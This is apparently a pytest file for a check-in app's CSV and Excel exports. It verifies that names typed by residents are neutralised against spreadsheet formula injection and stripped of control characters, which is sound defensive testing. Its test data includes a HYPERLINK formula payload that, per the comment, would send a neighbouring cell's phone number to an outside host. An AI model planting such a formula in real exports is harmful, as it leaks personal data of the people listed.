"""Spreadsheets to download: what a resident typed never becomes a live formula or breaks the file."""
import csv
import datetime
import io

import pytest
from openpyxl import load_workbook

from core.exports import cell
from models import CheckIn
from tests.conftest import login

#: What a hostile resident types as their name: opened by the org admin, it would send the next row's full phone
#: number to another site.
HYPERLINK = '=HYPERLINK("//x.cn/?"&C3,"查看")'


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("+86 138", "'+86 138"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'=1+1"),  # a tab or CR in front is dropped, and what it hid is neutralised
        ("\r=1+1", "'=1+1"),
        ("李\x00秀\x1b英\x7f\x85", "李秀英"),
        ("李\u2028秀英\ufffe", "李 秀英"),  # a line break is a space, a non-character goes
        ("第一行\r\n第二行", "第一行 第二行"),
        ("张三", "张三"),
        ("138****1234", "138****1234"),
        ("", ""),
        (None, ""),
    ],
)
def test_a_cell_is_plain_text_without_formulas_or_control_characters(value, written):
    assert cell(value) == written


@pytest.mark.parametrize("number", [0, 7, -3, 2.5])
def test_numbers_stay_numbers(number):
    assert cell(number) == number


@pytest.fixture
def event(make_org, make_event, org_admin):
    org = make_org("xinhua", admin=org_admin)
    event = make_event(org, starts_in=-datetime.timedelta(minutes=10))
    # Stored before names were checked at input, or typed by a volunteer's own hand: the export must survive them.
    CheckIn.create(event=event, name=HYPERLINK, phone="13812340001", number=1)
    CheckIn.create(event=event, name="王\x01小\x1f明", phone="13812340002", number=2)
    CheckIn.create(event=event, name="-赵六", phone="13812340003", number=3)
    return event


def test_csv_export_neutralises_formulas_and_strips_control_characters(client, org_admin, event):
    login(client, org_admin)
    response = client.get(f"/events/{event.id}/checkins.csv?full=1")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
    names = [row[1] for row in rows[1:]]
    assert names == ["'" + HYPERLINK, "王小明", "'-赵六"]
    assert [row[0] for row in rows[1:]] == ["1", "2", "3"]


def test_excel_export_survives_control_characters_and_writes_names_as_text(client, org_admin, event):
    login(client, org_admin)
    response = client.get(f"/events/{event.id}/checkins.xlsx?full=1")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.data)).active
    rows = list(sheet.iter_rows(min_row=2))
    assert [row[1].value for row in rows] == ["'" + HYPERLINK, "王小明", "'-赵六"]
    assert all(row[1].data_type == "s" for row in rows), "a name must never be written as a formula"
    assert [row[0].value for row in rows] == [1, 2, 3]
    assert all(row[0].data_type == "n" for row in rows)
    assert [row[2].value for row in rows] == ["13812340001", "13812340002", "13812340003"]
